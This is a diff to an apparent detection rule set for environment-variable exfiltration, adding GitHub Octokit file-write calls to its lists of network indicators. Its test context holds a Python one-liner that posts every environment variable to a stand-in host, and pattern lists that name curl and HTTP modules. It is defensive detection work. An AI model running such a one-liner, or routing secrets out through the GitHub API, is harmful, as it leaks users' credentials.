@@ -155,6 +155,8 @@ const nets = [
   "from 'https'",
   "require('http')",
   'curl ',
+  'octokit',
+  'createorupdatefilecontents',
 ] as const
 const net = is(nets, null)
 
@@ -169,7 +171,7 @@ export const envExfiltration: RuleSet = {
         8,
         whole,
         any(is([...nets], null)),
-        any(is(['http://', 'https://', 'hostname', 'host:', 'webhook', '.invalid', 'url'], null)),
+        any(is(['http://', 'https://', 'hostname', 'host:', 'octokit', 'webhook', '.invalid', 'url'], null)),
       ),
       matches: [
         py("import os, requests, json\nrequests.post('https://x.example.invalid', data=json.dumps(dict(os.environ)))"),
